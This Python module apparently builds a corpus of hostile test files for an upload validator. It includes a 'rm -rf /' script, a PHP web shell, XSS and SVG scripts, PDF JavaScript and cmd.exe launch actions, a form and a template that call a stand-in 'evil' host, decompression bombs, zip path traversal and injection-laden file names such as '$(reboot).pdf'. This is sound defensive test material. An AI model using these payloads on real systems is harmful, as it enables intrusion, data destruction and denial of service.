"""Some hundreds of files that somebody would try: (what it is, its name, its bytes), family by family."""

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

from ijm.demo.paper import one_page

from .honest_files import container, honest, m4a, mp3, ogg, open_document, open_xml, picture, png_chunk, wav

SCRIPT = b"<script>alert(1)</script>"
PROGRAM = b"MZ\x90\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode"
ZIP = container([("run.exe", PROGRAM)])
PDF = one_page("Statement")


def programs():
    beginnings = {
        "exe": PROGRAM,
        "so": b"\x7fELF\x02\x01\x01" + b"\x00" * 64,
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "py": b"#!/usr/bin/env python3\nimport os\n",
        "macho": b"\xcf\xfa\xed\xfe" + b"\x00" * 64,
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + b"\x00" * 64,
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "dex": b"dex\n035\x00" + b"\x00" * 64,
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64,
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
        "rtf": b"{\\rtf1{\\object\\objocx}}",
        "hta": b"<hta:application>" + SCRIPT,
    }
    for ending, body in beginnings.items():
        for name in (f"tool.{ending}", "photo.jpg", "statement.pdf"):
            yield f"{ending} called {name}", name, body


def drawings_and_pages():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    pages = {
        "svg": svg,
        "svg with prolog": b'<?xml version="1.0"?>\n' + svg,
        "svg with bom": b"\xef\xbb\xbf" + svg,
        "svg after blanks": b"\n\n   " + svg,
        "svg without script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg in capitals": svg.upper(),
        "svg in utf-16": svg.decode().encode("utf-16"),
        "svgz": gzip.compress(svg),
        "html": b"<!doctype html><html>" + SCRIPT,
        "html fragment": b"Dear all, " + SCRIPT,
        "html in words": b"a" * 5000 + b"<HTML><body onload=alert(1)>",
        "iframe": b"<iframe src=//evil></iframe>",
        "php": b"<?php system($_GET['c']); ?>",
        "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        "link": b"javascript:alert(1)",
        "terminal": b"\x1b]0;owned\x07\x1b[2J",
    }
    for what, body in pages.items():
        for name in ("drawing.svg", "photo.png"):
            yield f"{what} called {name}", name, body


def _with_object(body):
    """The honest page with one more object before its table."""
    return PDF.replace(b"xref\n", b"9 0 obj\n" + body + b"\nendobj\nxref\n", 1)


def _stream(head, packed):
    return b"<<" + head + b" /Length %d>>\nstream\n" % len(packed) + packed + b"\nendstream"


def papers():
    acts = b"<</S/JavaScript/JS(app.alert(1))>>"
    pairs = b"11 0 12 40 " + acts
    packed = zlib.compress(pairs)
    for what, body in {
        "script": acts,
        "script in disguise": b"<</S/J#61vaScr#69pt/JS(1)>>",
        "script in capitals of hex": b"<</S/#4A#61#76#61#53cript/JS(1)>>",
        "start": b"<</Type/Catalog/OpenAction<</S/JavaScript>>>>",
        "launch": b"<</S/Launch/F(cmd.exe)>>",
        "launch in disguise": b"<</S/L#61unch/F(cmd.exe)>>",
        "attachment": b"<</Type/Filespec/EF<</F 5 0 R>>/EmbeddedFile 1>>",
        "attachments": b"<</Names<</EmbeddedFiles 5 0 R>>>>",
        "form that sends": b"<</S/SubmitForm/F(http://evil)>>",
        "form that reads": b"<</S /ImportData>>",
        "xfa": b"<</AcroForm<</XFA 5 0 R>>>>",
        "film": b"<</Subtype/RichMedia>>",
        "other file": b"<</S/GoToE>>",
        "locked": b"<</Encrypt 5 0 R>>",
        "packed": _stream(b"/Type/ObjStm/N 2/First 12/Filter/FlateDecode", packed),
        "packed under another name": _stream(b"/Type 7 0 R/N 2/First 12/Filter/FlateDecode", packed),
        "packed in disguise": _stream(b"/Type/Obj#53tm/N 2/Filter[/Fl#61teDecode]", packed),
        "packed twice": _stream(b"/Type/ObjStm/N 2/Filter[/FlateDecode/FlateDecode]", zlib.compress(packed)),
        "packed in hex": _stream(b"/Type/ObjStm/N 2/Filter/ASCIIHexDecode", pairs.hex().encode() + b">"),
        "packed in hex, packed": _stream(
            b"/Type/ObjStm/Filter[/FlateDecode/ASCIIHexDecode]", zlib.compress(b"31 20 " + pairs.hex().encode())
        ),
        "packed with a predictor": _stream(
            b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", zlib.compress(b"\x02" + pairs)
        ),
        "packed bomb": _stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"11 0 " + b" " * 70_000_000, 9)),
        "page": b"(" + SCRIPT + b")",
        "archive": ZIP,
    }.items():
        yield f"pdf, {what}", "statement.pdf", _with_object(body)
    for what, body in {
        "not first": b"\n" + PDF,
        "after a page": b"<html>" + PDF,
        "after a picture": b"GIF89a" + PDF,
        "before an archive": PDF + ZIP,
        "before a page": PDF + SCRIPT,
        "before a program": PDF + PROGRAM,
        "before words": PDF + b"hello",
        "without an end": PDF.replace(b"%%EOF", b""),
        "without a table": PDF.replace(b"startxref", b"startxxxx"),
        "of another kind": PDF.replace(b"%PDF-1.4", b"%PDF-x.y"),
        "begun": b"%PDF-1.7\n",
    }.items():
        yield f"pdf {what}", "statement.pdf", body


def pictures():
    behind = {"archive": ZIP, "page": b"<html>" + SCRIPT, "program": PROGRAM, "words": b"hello", "film": m4a(b"vide")}
    for form, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp")):
        body = picture(form, (64, 48))
        for what, more in behind.items():
            yield f"{form} before {what}", name, body + more
            yield f"{form} after {what}", name, more + body
        yield f"{form} called a program", "a.exe", body[: len(body) // 2]
    jpeg, png = picture("JPEG", (64, 48)), picture("PNG", (64, 48))
    for what, hidden in {
        "page": SCRIPT,
        "php": b"<?php x ?>",
        "archive": ZIP,
        "program": PROGRAM,
        "svg": b"<svg ",
    }.items():
        comment = b"\xff\xfe" + struct.pack(">H", len(hidden) + 2) + hidden
        yield f"JPEG with {what} in a comment", "a.jpg", jpeg[:2] + comment + jpeg[2:]
        chunk = png_chunk(b"tEXt", b"Comment\x00" + hidden)
        yield f"PNG with {what} in a comment", "a.png", png[:33] + chunk + png[33:]
    header = png[:8] + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
    yield "PNG with a PDF as pixels", "a.png", header + png_chunk(b"IDAT", zlib.compress(PDF, 0)) + png[-12:]
    yield "PNG with an archive as pixels", "a.png", header + png_chunk(b"IDAT", zlib.compress(ZIP, 0)) + png[-12:]
    yield "PNG with a wrong checksum", "a.png", png[:29] + b"\x00\x00\x00\x00" + png[33:]
    yield "PNG without pixels", "a.png", header + png[-12:]
    yield "PNG that moves", "a.png", png[:33] + png_chunk(b"acTL", struct.pack(">II", 2, 0)) + png[33:]
    for what, body in {
        "gif": b"GIF89a" + struct.pack("<HH", 9, 9) + b"\x00" * 40,
        "bmp": b"BM" + b"\x00" * 60,
        "tiff": b"II*\x00" + b"\x00" * 60,
        "heic": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 60,
        "avif": b"\x00\x00\x00\x18ftypavif" + b"\x00" * 60,
        "ico": b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 60,
        "psd": b"8BPS\x00\x01" + b"\x00" * 60,
    }.items():
        yield what, f"a.{what}", body
        yield f"{what} called a.jpg", "a.jpg", body


def floods():
    """Pictures of a few bytes that want gigabytes."""
    png = picture("PNG", (64, 48))
    for width, height in ((65535, 65535), (2**31 - 1, 1), (30000, 30000), (1, 2**31 - 1), (7100, 7100)):
        head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
        yield f"PNG of {width}x{height}", "a.png", png[:8] + head + png[33:]
    rows = zlib.compress(b"\x00" * (20000 // 8 + 1) * 20000, 9)
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 20000, 20000, 1, 0, 0, 0, 0))
    yield "PNG of 20000x20000, whole", "a.png", png[:8] + head + png_chunk(b"IDAT", rows) + png[-12:]
    bomb = zlib.compress(b"\x00" * 200_000_000, 9)
    for kind, front in ((b"zTXt", b"Comment\x00\x00"), (b"iCCP", b"icc\x00\x00"), (b"iTXt", b"a\x00\x01\x00\x00\x00")):
        yield f"PNG with a {kind.decode()} bomb", "a.png", png[:33] + png_chunk(kind, front + bomb) + png[33:]
    jpeg = bytearray(picture("JPEG", (64, 48)))
    frame = jpeg.index(b"\xff\xc0")
    for width, height in ((65500, 65500), (0, 0), (65535, 1000)):
        jpeg[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
        yield f"JPEG of {width}x{height}", "a.jpg", bytes(jpeg)
    webp = bytearray(picture("WEBP", (64, 48)))
    webp[24:30] = b"\xff" * 6
    yield "WEBP of 16777216x16777216", "a.webp", bytes(webp)


def _lying(body, real, said):
    """The container with another size in its directory and in front of the member."""
    return body.replace(struct.pack("<I", real), struct.pack("<I", said))


def _patched(body, name, member_flags):
    """Every flag field of the container set."""
    out = bytearray(body)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = out.find(sign)
        while where >= 0:
            out[where + at : where + at + 2] = struct.pack("<H", member_flags)
            where = out.find(sign, where + 4)
    return bytes(out)


def containers():
    zeros = b"\x00" * 30_000_000
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    xml = b"<?xml version='1.0'?>"
    inside = {
        "bomb": [("word/media/a.bin", zeros)],
        "many bombs": [(f"word/media/{n}.bin", zeros) for n in range(4)],
        "3000 members": [(f"word/{n}.xml", b"") for n in range(3000)],
        "archive": [("word/embeddings/a.zip", ZIP)],
        "sheet": [("word/embeddings/a.xlsx", open_xml("xlsx"))],
        "program": [("word/embeddings/a.bin", PROGRAM)],
        "object": [("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 99)],
        "macros": [("word/vbaProject.bin", b"x")],
        "macros declared": [("word/a.xml", xml + b"<a ContentType='application/vnd.ms-word.document.macroEnabled'/>")],
        "activex": [("word/activeX/activeX1.xml", xml)],
        "path upward": [("../../etc/passwd", b"x")],
        "absolute path": [("/etc/passwd", b"x")],
        "backslash": [("..\\..\\a.exe", b"x")],
        "drive": [("C:/a.exe", b"x")],
        "control sign": [("word/a\x07.xml", b"x")],
        "direction sign": [("word/\u202excod.exe", b"x")],
        "same name twice": [("word/Document.xml", b"x")],
        "link": [(link, b"/etc/passwd")],
        "entities": [("word/b.xml", xml + b"<!DOCTYPE a [<!ENTITY b 'ccc'>]><a>&b;</a>")],
        "entities in utf-16": [("word/b.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]>".encode("utf-16"))],
        "page": [("word/a.html", b"<html>" + SCRIPT)],
        "script": [("word/media/a.svg", b"<svg>" + SCRIPT + b"</svg>")],
        "template from outside": [
            (
                "word/_rels/settings.xml.rels",
                xml + b'<Relationship Type="http://x/attachedTemplate" Target="http://evil" TargetMode="External"/>',
            )
        ],
    }
    for what, more in inside.items():
        yield f"docx with {what}", "report.docx", open_xml("docx", more)
    yield "odt with macros", "a.odt", open_document("text", [("Basic/Standard/a.xml", b"x")])
    yield "odt with scripts", "a.odt", open_document("text", [("Scripts/python/a.py", b"x")])
    yield "odt with an event", "a.odt", open_document("text", [("b.xml", xml + b"<script:event-listener/>")])
    whole = open_xml("docx")
    yield "docx with a comment", "a.docx", whole[:-2] + struct.pack("<H", 5) + b"hello"
    yield "docx before a program", "a.docx", whole + PROGRAM
    yield "docx after a program", "a.docx", PROGRAM + whole
    yield "docx locked", "a.docx", _patched(whole, "a.docx", 1)
    yield "docx that lies", "a.docx", _lying(open_xml("docx", [("word/z.bin", zeros)]), len(zeros), 1000)
    for name in ("a.docx", "a.zip", "a.jar", "a.apk", "a.xlsx"):
        yield f"zip called {name}", name, ZIP
    yield "empty zip", "a.zip", b"PK\x05\x06" + b"\x00" * 18
    yield "zip of nothing known", "a.docx", container([("word/document.xml", b"x")])
    yield "presentation", "a.pptx", container([("[Content_Types].xml", b"presentationml"), ("ppt/a.xml", b"x")])
    yield "lzma inside", "a.docx", container([("[Content_Types].xml", b"x")], zipfile.ZIP_LZMA)


def archives():
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as packed:
        packed.addfile(tarfile.TarInfo("../../a"), io.BytesIO(b""))
    for what, body in {
        "tar": tar.getvalue(),
        "gz": gzip.compress(b"x"),
        "gz bomb": gzip.compress(b"\x00" * 50_000_000),
        "bz2": bz2.compress(b"x"),
        "xz": lzma.compress(b"x"),
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32,
        "rar": b"Rar!\x1a\x07\x01\x00",
        "cab": b"MSCF" + b"\x00" * 32,
        "zst": b"\x28\xb5\x2f\xfd" + b"\x00" * 32,
    }.items():
        yield what, f"a.{what}", body
        yield f"{what} called a.pdf", "a.pdf", body


def recordings():
    behind = {"archive": ZIP, "page": SCRIPT, "program": PROGRAM, "words": b"hello you"}
    for name, body in (("a.wav", wav()), ("a.mp3", mp3()), ("a.m4a", m4a()), ("a.ogg", ogg())):
        for what, more in behind.items():
            yield f"{name} before {what}", name, body + more
    info = b"LIST" + struct.pack("<I", len(ZIP) + (len(ZIP) & 1)) + ZIP + b"\x00" * (len(ZIP) & 1)
    long = wav() + info
    yield "wav with an archive in a chunk", "a.wav", b"RIFF" + struct.pack("<I", len(long) - 8) + long[8:]
    yield "wav without sound", "a.wav", b"RIFF" + struct.pack("<I", 4) + b"WAVE"
    yield "film as m4a", "a.m4a", m4a(b"vide")
    yield "film as mp4", "a.mp4", m4a(b"vide")
    yield "m4a of an unknown box", "a.m4a", m4a() + struct.pack(">I", 16) + b"evil" + b"\x00" * 8
    yield "m4a endless", "a.m4a", m4a()[:24] + b"\xff\xff\xff\xff" + m4a()[28:]
    yield "ogg of a film", "a.ogg", ogg().replace(b"OpusHead", b"\x80theora")
    yield "mp3 with a program in its tag", "a.mp3", b"ID3\x04\x00\x00\x00\x00\x01\x7f" + PROGRAM[:255] + mp3()[40:]
    yield "mp3 of two frames", "a.mp3", mp3(2)
    yield "mp3 of nothing", "a.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00"
    yield "mp3 with a nonsense tag", "a.mp3", b"ID3\x04\x00\x00\xff\xff\xff\xff" + mp3()[40:]
    yield "avi", "a.avi", b"RIFF" + struct.pack("<I", 4) + b"AVI "
    yield "mkv", "a.mkv", b"\x1aE\xdf\xa3" + b"\x00" * 50
    yield "amr", "a.amr", b"#!AMR\n" + b"\x00" * 50
    yield "flac", "a.flac", b"fLaC" + b"\x00" * 50


def cut_off():
    """Whole files, cut where they must not end."""
    for name, body in honest().items():
        if name.endswith((".txt", ".csv", ".mp3")):
            continue  # any part of a text is a text, and a recording may end within a frame
        for part in (0.1, 0.5, 0.9, 0.99):
            yield f"{name} cut at {part}", name, body[: int(len(body) * part)]
    yield "nothing", "a.pdf", b""
    yield "one byte", "a.pdf", b"\x00"


FAMILIES = {
    one.__name__: one
    for one in (
        programs,
        drawings_and_pages,
        papers,
        pictures,
        floods,
        containers,
        archives,
        recordings,
        cut_off,
    )
}


def fuzzed(count=60):
    """Honest files with a few bytes of their beginning turned around: kept or not, nothing may break."""
    luck = random.Random(20261120)
    files = list(honest().items())
    for number in range(count):
        name, body = files[number % len(files)]
        broken = bytearray(body)
        for _each in range(luck.randint(1, 6)):
            broken[luck.randrange(min(96, len(broken)))] = luck.randrange(256)
        yield f"{name}, fuzzed {number}", name, bytes(broken)


#: Names that somebody would try, for a file that is sound.
NAMES = (
    *("../../../etc/passwd", "..\\..\\windows\\system32\\a.exe", "/etc/cron.d/x", "C:\\fakepath\\statement.pdf"),
    *("statement.pdf.exe", "statement.php", "a.html", ".htaccess", "..", "con.pdf", "nul", "a" * 300 + ".pdf"),
    *("state\u202efdp.exe", "a\x00.exe", "a\r\nX-Evil: 1.pdf", "<img src=x>.pdf", 'a";filename="b.exe', "  .pdf"),
    *("%2e%2e%2fetc%2fpasswd", "a\u200b\ufeff.pdf", "ถ้อยแถลง.pdf", "$(reboot).pdf", "a;b|c&d.pdf", "statement.PDF"),
)
